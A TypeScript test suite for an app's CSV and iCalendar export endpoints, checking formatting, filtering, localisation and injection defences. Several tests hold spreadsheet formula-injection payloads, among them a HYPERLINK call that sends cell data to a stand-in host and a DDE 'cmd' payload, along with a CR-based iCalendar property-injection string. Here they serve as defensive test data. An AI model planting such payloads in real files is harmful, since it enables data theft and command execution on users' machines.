import { describe, expect, it } from 'vitest';
import { demoSnapshot, IDS } from '../../mocks/demo-data';
import { generateSnapshot } from '../../mocks/generator';
import { createApi } from '../../server/app';
import { homeDate, icsText, neutralizeCsvCell, toCsv } from '../../server/routes/exports';
import type { FollowUp } from '../../src/domain/follow-up';
import { NOW, testApi, type TestApi } from './helpers';
import { ifMatch, PROBLEM_JSON, validFollowUp, walkPages } from './fixtures';

// ---------------------------------------------------------------------------------------------
// Helpers: a download as the browser gets it (bytes), and small independent readers of the formats.

type Download = { status: number; headers: Headers; bytes: Uint8Array; text: string };

/** Fetches through a second API over the same database: `TestApi.request` parses every body as JSON. */
async function download(api: TestApi, path: string): Promise<Download> {
  const app = createApi({ database: api.database, now: () => NOW });
  const response = await app.fetch(new Request(`http://mitra.test/api${path}`));
  const bytes = new Uint8Array(await response.arrayBuffer());
  // ignoreBOM keeps the byte order mark in the text, so the tests can see it.
  const text = new TextDecoder('utf-8', { ignoreBOM: true, fatal: true }).decode(bytes);
  return { status: response.status, headers: response.headers, bytes, text };
}

const BOM = '\uFEFF';

/**
 * A strict RFC 4180 reader: CRLF between records, quotes doubled inside quoted fields; a bare CR
 * or LF outside quotes, or a quote inside an unquoted field, is an error.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  let wasQuoted = false;
  for (let i = 0; i < text.length; i += 1) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 1;
      } else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"') {
      if (field !== '' || wasQuoted) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      wasQuoted = true;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      wasQuoted = false;
    } else if (ch === '\r') {
      if (text[i + 1] !== '\n') throw new Error(`bare CR at ${i}`);
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      wasQuoted = false;
      i += 1;
    } else if (ch === '\n') throw new Error(`bare LF at ${i}`);
    else {
      if (wasQuoted) throw new Error(`text after a closing quote at ${i}`);
      field += ch;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

async function csv(
  api: TestApi,
  query = '',
): Promise<{ header: string[]; rows: string[][]; raw: Download }> {
  const raw = await download(api, `/follow-ups/export.csv${query}`);
  expect(raw.status).toBe(200);
  expect(raw.text.startsWith(BOM)).toBe(true);
  const [header, ...rows] = parseCsv(raw.text.slice(1));
  return { header: header!, rows, raw };
}

type IcsEvent = Map<string, string>;

/** Unfolds (RFC 5545 3.1: CRLF then one space or tab) and reads the VEVENTs' properties. */
function parseIcs(text: string): { calendar: IcsEvent; events: IcsEvent[]; lines: string[] } {
  expect(text.endsWith('\r\n')).toBe(true);
  expect(text.replace(/\r\n/g, ''), 'a bare CR or LF').not.toMatch(/[\r\n]/);
  const physical = text.split('\r\n').slice(0, -1);
  const lines = text
    .replace(/\r\n[ \t]/g, '')
    .split('\r\n')
    .slice(0, -1);
  const calendar: IcsEvent = new Map();
  const events: IcsEvent[] = [];
  let event: IcsEvent | undefined;
  for (const line of lines) {
    if (line === 'BEGIN:VEVENT') event = new Map();
    else if (line === 'END:VEVENT') {
      events.push(event!);
      event = undefined;
    } else {
      const colon = line.indexOf(':');
      const name = line.slice(0, colon);
      const target = event ?? calendar;
      expect(target.has(name), `${name} twice`).toBe(false);
      target.set(name, line.slice(colon + 1));
    }
  }
  expect(lines[0]).toBe('BEGIN:VCALENDAR');
  expect(lines.at(-1)).toBe('END:VCALENDAR');
  return { calendar, events, lines: physical };
}

/** RFC 5545 3.3.11 TEXT: \\ \; \, and \n (or \N). */
function unescapeText(value: string): string {
  return value.replace(/\\([\\;,nN])/g, (_, c: string) => (c === 'n' || c === 'N' ? '\n' : c));
}

async function ics(api: TestApi, query = '') {
  const raw = await download(api, `/follow-ups/export.ics${query}`);
  expect(raw.status).toBe(200);
  return { ...parseIcs(raw.text), raw };
}

async function listIds(api: TestApi, query: string): Promise<string[]> {
  const walk = await walkPages(api, `/follow-ups${query}`, 100);
  return walk.ids;
}

async function create(api: TestApi, overrides: Record<string, unknown>): Promise<FollowUp> {
  const response = await api.request('POST', '/follow-ups', { body: validFollowUp(overrides) });
  expect(response.status).toBe(201);
  return response.body as FollowUp;
}

const FILTERS = [
  '',
  '?sort=-priority',
  '?status=open,in-progress',
  '?status=done&status=cancelled&sort=title',
  '?q=forum%20teknis',
  '?due=overdue',
  '?due=none',
  `?partnershipId=${IDS.partnership}&sort=-updatedAt`,
  '?sectorId=education&sort=status',
  `?ownerId=${IDS.officer2}&priority=normal,low`,
  `?meetingId=${IDS.visit}&sort=-dueDate`,
  '?id=fu-gimhae-1,fu-penang-1,fu-none',
];

// ---------------------------------------------------------------------------------------------

describe('neutralizeCsvCell', () => {
  it('prefixes a single quote to a cell that starts like a formula', async () => {
    expect(neutralizeCsvCell('=1+2')).toBe("'=1+2");
    expect(neutralizeCsvCell('=HYPERLINK("http://evil.example","klik")')).toBe(
      '\'=HYPERLINK("http://evil.example","klik")',
    );
    expect(neutralizeCsvCell('+62 812 0000')).toBe("'+62 812 0000");
    expect(neutralizeCsvCell('-1+1')).toBe("'-1+1");
    expect(neutralizeCsvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(neutralizeCsvCell('\t=1+1')).toBe("'\t=1+1");
    expect(neutralizeCsvCell('\r=1+1')).toBe("'\r=1+1");
    expect(neutralizeCsvCell('\u0000=1')).toBe("'\u0000=1");
    expect(neutralizeCsvCell('=')).toBe("'=");
  });

  it('leaves every other cell as it is, hyphens and = in the middle included', async () => {
    for (const value of [
      'tindak-lanjut',
      'Rapat tindak-lanjut forum',
      'a=b',
      'Forum + pameran',
      'budi@example.org',
      'Kota Binzhou',
      '滨州市',
      '2026-12-10',
      '0',
      '',
      ' =1+1',
      "'=already",
    ]) {
      expect(neutralizeCsvCell(value)).toBe(value);
    }
  });
});

describe('toCsv', () => {
  it('writes RFC 4180: BOM, CRLF, quotes only where needed and doubled inside', async () => {
    expect(
      toCsv(
        ['Judul', 'Catatan'],
        [
          ['a,b', 'kata "kutip"'],
          ['baris\nbaru', 'polos'],
          ['=1+1', '-'],
          ['', ' spasi'],
        ],
      ),
    ).toBe(
      `${BOM}Judul,Catatan\r\n"a,b","kata ""kutip"""\r\n"baris\nbaru",polos\r\n'=1+1,'-\r\n," spasi"\r\n`,
    );
    expect(toCsv(['A'], [])).toBe(`${BOM}A\r\n`);
  });
});

describe('homeDate and icsText', () => {
  it('dates a timestamp in Asia/Jakarta', async () => {
    expect(homeDate('2025-10-31T17:30:00.000Z')).toBe('2025-11-01');
    expect(homeDate('2025-10-31T16:59:59.999Z')).toBe('2025-10-31');
  });

  it('turns CR and CRLF into LF and drops control characters but tab', async () => {
    expect(icsText('a\rb\r\nc\nd')).toBe('a\nb\nc\nd');
    expect(icsText('a\u0000b\u0007c\td\u007f')).toBe('abc\td');
  });
});

describe('GET /api/follow-ups/export.csv', () => {
  it('is a UTF-8 CSV download with a BOM, CRLF line ends and a dated file name', async () => {
    const api = await testApi();
    const { header, rows, raw } = await csv(api);
    expect(raw.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(raw.headers.get('content-disposition')).toBe(
      'attachment; filename="mitra-tindak-lanjut-2025-11-01.csv"',
    );
    expect([...raw.bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(raw.text.indexOf(BOM, 1)).toBe(-1);
    expect(raw.text.endsWith('\r\n')).toBe(true);
    expect(header).toHaveLength(11);
    expect(rows).toHaveLength(demoSnapshot().followUps.length);
    for (const row of rows) expect(row).toHaveLength(11);
  });

  it('has the rows the list endpoint finds for the same filters, in the same order', async () => {
    const api = await testApi();
    await create(api, { title: 'Tanpa tenggat', status: 'done', dueDate: undefined });
    for (const query of FILTERS) {
      const { rows } = await csv(api, query);
      const expected = await listIds(api, query);
      expect(
        rows.map((row) => row[0]),
        query,
      ).toEqual(expected);
    }
    expect((await csv(api, '?status=blocked')).rows.map((row) => row[0])).toEqual([
      'fu-binzhou-youth',
    ]);
  });

  it('is never paged: thousands of rows, the same as walking every page of the list', async () => {
    const snapshot = generateSnapshot({
      seed: 7,
      followUps: 2_500,
      meetings: 200,
      partnerships: 20,
    });
    const api = await testApi(snapshot);
    for (const query of ['', '?sort=-priority', '?due=overdue&sort=status']) {
      const { rows } = await csv(api, query);
      expect(
        rows.map((row) => row[0]),
        query,
      ).toEqual(await listIds(api, query));
    }
    expect((await csv(api)).rows).toHaveLength(snapshot.followUps.length);
    expect(snapshot.followUps.length).toBeGreaterThan(2_500);
    // A database of 2,500 follow-ups written for this test (about 2 s here), then seven walks.
  }, 30_000);

  it('writes Indonesian headers and words by default and English on request', async () => {
    const api = await testApi();
    const id = await csv(api);
    const en = await csv(api, '?lang=en');
    expect(id.header).toEqual([
      'ID',
      'Judul',
      'Status',
      'Prioritas',
      'Kemitraan',
      'Penanggung jawab',
      'Tenggat',
      'Sektor',
      'Jumlah pertemuan',
      'Dibuat',
      'Diperbarui',
    ]);
    expect(en.header).toEqual([
      'ID',
      'Title',
      'Status',
      'Priority',
      'Partnership',
      'Owner',
      'Due date',
      'Sectors',
      'Meetings',
      'Created',
      'Updated',
    ]);
    expect((await csv(api, '?lang=id')).raw.text).toBe(id.raw.text);

    const row = (rows: string[][], key: string) => rows.find((r) => r[0] === key);
    expect(row(id.rows, 'fu-binzhou-forum')).toEqual([
      'fu-binzhou-forum',
      'Menyelenggarakan forum teknis dengan Kota Binzhou',
      'Sedang berjalan',
      'Tinggi',
      'Kota Binzhou',
      'Budi Santoso',
      '2026-12-10',
      'Pariwisata; Ekonomi kreatif; UMKM; Pendidikan dan pertukaran pelajar; Peningkatan kapasitas pemuda',
      '1',
      '2025-09-22',
      '2025-10-06',
    ]);
    expect(row(en.rows, 'fu-binzhou-forum')).toEqual([
      'fu-binzhou-forum',
      'Menyelenggarakan forum teknis dengan Kota Binzhou',
      'In progress',
      'High',
      'Binzhou City',
      'Budi Santoso',
      '2026-12-10',
      'Tourism; Creative economy; MSMEs; Education and student exchange; Youth capacity building',
      '1',
      '2025-09-22',
      '2025-10-06',
    ]);
    expect(row(id.rows, 'fu-penang-1')!.slice(2, 5)).toEqual([
      'Terbuka',
      'Sedang',
      'Provinsi Pulau Pinang',
    ]);
    expect(row(en.rows, 'fu-penang-1')!.slice(2, 5)).toEqual([
      'Open',
      'Normal',
      'Pulau Pinang Province',
    ]);
    expect(row(id.rows, 'fu-geelong-1')![2]).toBe('Dibatalkan');
  });

  it("leaves an undated item's due date empty and counts every meeting that discussed it", async () => {
    const api = await testApi();
    const undated = await create(api, {
      title: 'Tanpa tenggat',
      status: 'cancelled',
      dueDate: undefined,
    });
    const { rows } = await csv(api, `?id=${undated.id}`);
    expect(rows[0]![6]).toBe('');
    expect(rows[0]![8]).toBe('1');
  });

  it('neutralises formulas in every column (=, +, -, @, tab, CR) but not a hyphen inside a word', async () => {
    const api = await testApi();
    const titles = [
      '=HYPERLINK("http://evil.example/?"&A1,"klik")',
      '+62 812 0000',
      '-1+1',
      '@SUM(1,2)',
      'Rapat tindak-lanjut = penting',
    ];
    const created = [];
    for (const title of titles) created.push(await create(api, { title }));
    // Titles are trimmed on input, so a leading tab or CR can only come from elsewhere (an import).
    const tab = created[4]!;
    (await api.store.followUps.replace({ ...tab, id: tab.id, title: '\t=1+1' }));
    (await api.store.followUps.insert({ ...tab, id: 'fu-cr', title: '\r=1+1' }));
    const owner = (await api.store.users.get(IDS.officer2))!;
    (await api.store.users.replace({ ...owner, name: '=cmd|"/c calc"!A1' }));
    await create(api, { title: 'Judul biasa dengan tanda-hubung' });

    const { rows, raw } = await csv(api, '?q=');
    const byTitle = new Map(rows.map((row) => [row[1], row]));
    expect([...byTitle.keys()]).toEqual(
      expect.arrayContaining([
        '\'=HYPERLINK("http://evil.example/?"&A1,"klik")',
        "'+62 812 0000",
        "'-1+1",
        "'@SUM(1,2)",
        "'\t=1+1",
        "'\r=1+1",
        'Judul biasa dengan tanda-hubung',
      ]),
    );
    expect(raw.text).toContain('"\'=HYPERLINK(""http://evil.example/?""&A1,""klik"")"');
    for (const row of rows) {
      // No cell of the whole export starts like a formula.
      for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
      if (row[5]?.includes('cmd')) expect(row[5]).toBe('\'=cmd|"/c calc"!A1');
    }
    expect(rows.filter((row) => row[5] === '\'=cmd|"/c calc"!A1').length).toBeGreaterThan(0);
  });

  it('quotes commas, quotes and newlines so the text round-trips', async () => {
    const api = await testApi();
    const title = 'Forum; teknis, "Binzhou"\nbaris dua';
    const item = await create(api, { title });
    const { rows, raw } = await csv(api, `?id=${item.id}`);
    expect(rows[0]![1]).toBe(title);
    expect(raw.text).toContain('"Forum; teknis, ""Binzhou""\nbaris dua"');
  });

  it('with no match, is the header row alone', async () => {
    const api = await testApi();
    const { rows, raw } = await csv(api, '?q=tidak-ada-yang-cocok');
    expect(rows).toEqual([]);
    expect(raw.text.split('\r\n')).toHaveLength(2);
  });

  it('refuses paging and unknown or bad parameters like the list does', async () => {
    const api = await testApi();
    for (const [query, path, code] of [
      ['?limit=10', 'limit', 'unknownField'],
      ['?cursor=bzEwMA', 'cursor', 'unknownField'],
      ['?lang=zh', 'lang', 'invalidOption'],
      ['?status=finished', 'status.0', 'invalidOption'],
      ['?due=yesterday', 'due', 'invalidOption'],
      ['?sort=owner', 'sort', 'invalidOption'],
      ['?mine=true', 'mine', 'unknownField'],
    ] as const) {
      for (const extension of ['csv', 'ics']) {
        const response = await download(api, `/follow-ups/export.${extension}${query}`);
        expect(response.status, query).toBe(400);
        expect(response.headers.get('content-type')).toBe(PROBLEM_JSON);
        expect(JSON.parse(response.text).errors).toEqual([expect.objectContaining({ path, code })]);
      }
    }
  });
});

describe('GET /api/follow-ups/export.ics', () => {
  it('is an iCalendar download with a dated file name', async () => {
    const api = await testApi();
    const { calendar, raw } = await ics(api);
    expect(raw.headers.get('content-type')).toBe('text/calendar; charset=utf-8');
    expect(raw.headers.get('content-disposition')).toBe(
      'attachment; filename="mitra-tindak-lanjut-2025-11-01.ics"',
    );
    expect(calendar.get('VERSION')).toBe('2.0');
    expect(calendar.get('METHOD')).toBe('PUBLISH');
    expect(calendar.get('PRODID')).toBe('-//Mitra//Tindak lanjut//ID');
    expect(calendar.get('X-WR-CALNAME')).toBe('Mitra: tindak lanjut');
  });

  it('has one event per item with a due date, for the same filters and order as the list', async () => {
    const api = await testApi();
    await create(api, { title: 'Tanpa tenggat', status: 'done', dueDate: undefined });
    const dated = new Set(
      (await api.store.followUps.all())
        .filter((f) => f.dueDate !== undefined)
        .map((f) => f.id),
    );
    expect(dated.size).toBe((await api.store.followUps.count()) - 1);
    for (const query of FILTERS) {
      const { events } = await ics(api, query);
      const expected = (await listIds(api, query)).filter((id) => dated.has(id));
      expect(
        events.map((e) => e.get('UID')),
        query,
      ).toEqual(expected.map((id) => `${id}@mitra`));
    }
    expect((await ics(api, '?due=none')).events).toEqual([]);
  });

  it('gives each item a stable UID: the same calendar twice, a new SEQUENCE after a change', async () => {
    const api = await testApi();
    const first = await ics(api);
    const second = await ics(api);
    expect(second.raw.text).toBe(first.raw.text);
    const uid = (e: IcsEvent) => e.get('UID');
    expect(first.events.map(uid)).toEqual(second.events.map(uid));
    expect(new Set(first.events.map(uid)).size).toBe(first.events.length);

    await api.request('PATCH', '/follow-ups/fu-binzhou-tourism', {
      body: { dueDate: '2026-12-01' },
      headers: ifMatch(1),
    });
    const after = await ics(api);
    const tourism = after.events.find((e) => uid(e) === 'fu-binzhou-tourism@mitra')!;
    expect(tourism.get('SEQUENCE')).toBe('2');
    expect(tourism.get('DTSTART;VALUE=DATE')).toBe('20261201');
    expect(after.events.map(uid).sort()).toEqual(first.events.map(uid).sort());
  });

  it('makes all-day events: DTSTART;VALUE=DATE is the due date, DTEND the day after', async () => {
    const api = await testApi();
    const endOfMonth = await create(api, { title: 'Akhir bulan', dueDate: '2025-11-30' });
    const endOfYear = await create(api, { title: 'Akhir tahun', dueDate: '2025-12-31' });
    const leap = await create(api, { title: 'Kabisat', dueDate: '2028-02-28' });
    const { events } = await ics(api);
    const event = (id: string) => events.find((e) => e.get('UID') === `${id}@mitra`)!;
    expect(event('fu-binzhou-forum').get('DTSTART;VALUE=DATE')).toBe('20261210');
    expect(event('fu-binzhou-forum').get('DTEND;VALUE=DATE')).toBe('20261211');
    expect(event(endOfMonth.id).get('DTEND;VALUE=DATE')).toBe('20251201');
    expect(event(endOfYear.id).get('DTEND;VALUE=DATE')).toBe('20260101');
    expect(event(leap.id).get('DTEND;VALUE=DATE')).toBe('20280229');
    for (const e of events) {
      expect(e.has('DTSTART')).toBe(false);
      expect(e.get('DTSTAMP')).toBe('20251101T030000Z');
      expect(e.get('TRANSP')).toBe('TRANSPARENT');
    }
    expect(event('fu-geelong-1').get('STATUS')).toBe('CANCELLED');
    expect(event('fu-binzhou-forum').get('STATUS')).toBe('CONFIRMED');
  });

  it('escapes text (\\ ; , newlines) and the title round-trips', async () => {
    const api = await testApi();
    const tricky = 'Forum; teknis, "Binzhou"\nbaris dua';
    const slashes = 'Arsip C:\\rapat\\2025; versi 2, final';
    const a = await create(api, { title: tricky });
    const b = await create(api, { title: slashes });
    const { events, raw } = await ics(api, `?id=${a.id},${b.id}`);
    const unfolded = raw.text.replace(/\r\n[ \t]/g, '');
    expect(unfolded).toContain('SUMMARY:Forum\\; teknis\\, "Binzhou"\\nbaris dua\r\n');
    expect(unfolded).toContain('SUMMARY:Arsip C:\\\\rapat\\\\2025\\; versi 2\\, final\r\n');
    const summaries = events.map((e) => unescapeText(e.get('SUMMARY')!));
    expect(summaries.sort()).toEqual([tricky, slashes].sort());
  });

  it('cannot be fed extra properties through a bare CR in a title', async () => {
    const api = await testApi();
    const item = await create(api, { title: 'Baris satu\rDTSTART:20000101\rUID:evil' });
    const { events } = await ics(api, `?id=${item.id}`);
    expect(events).toHaveLength(1);
    expect(events[0]!.get('UID')).toBe(`${item.id}@mitra`);
    expect(events[0]!.get('DTSTART;VALUE=DATE')).toBe('20251120');
    expect(unescapeText(events[0]!.get('SUMMARY')!)).toBe('Baris satu\nDTSTART:20000101\nUID:evil');
  });

  it('describes status, owner and partnership in the language asked', async () => {
    const api = await testApi();
    const forum = (e: IcsEvent) => e.get('UID') === 'fu-binzhou-forum@mitra';
    const id = (await ics(api)).events.find(forum)!;
    const en = (await ics(api, '?lang=en')).events.find(forum)!;
    expect(unescapeText(id.get('DESCRIPTION')!)).toBe(
      'Status: Sedang berjalan\nPenanggung jawab: Budi Santoso\nKemitraan: Kota Binzhou',
    );
    expect(unescapeText(en.get('DESCRIPTION')!)).toBe(
      'Status: In progress\nOwner: Budi Santoso\nPartnership: Binzhou City',
    );
    expect(unescapeText(id.get('SUMMARY')!)).toBe(
      'Menyelenggarakan forum teknis dengan Kota Binzhou',
    );
  });

  it('folds long lines at 75 characters', async () => {
    const api = await testApi();
    const item = await create(api, {
      title: `Forum teknis ${'滨州市 Binzhou, '.repeat(12)}`.trim(),
    });
    // 31 characters but 77 octets: "SUMMARY:" and 23 Chinese characters of three octets each.
    const short = await create(api, { title: '滨'.repeat(23) });
    const { events, lines } = await ics(api);
    for (const line of lines) expect(new TextEncoder().encode(line).length).toBeLessThanOrEqual(75);
    expect(lines.some((line) => line.startsWith('\t') || line.startsWith(' '))).toBe(true);
    const event = events.find((e) => e.get('UID') === `${item.id}@mitra`)!;
    expect(unescapeText(event.get('SUMMARY')!)).toBe(item.title);
    expect(unescapeText(events.find((e) => e.get('UID') === `${short.id}@mitra`)!.get('SUMMARY')!)).toBe(short.title);
  });
});
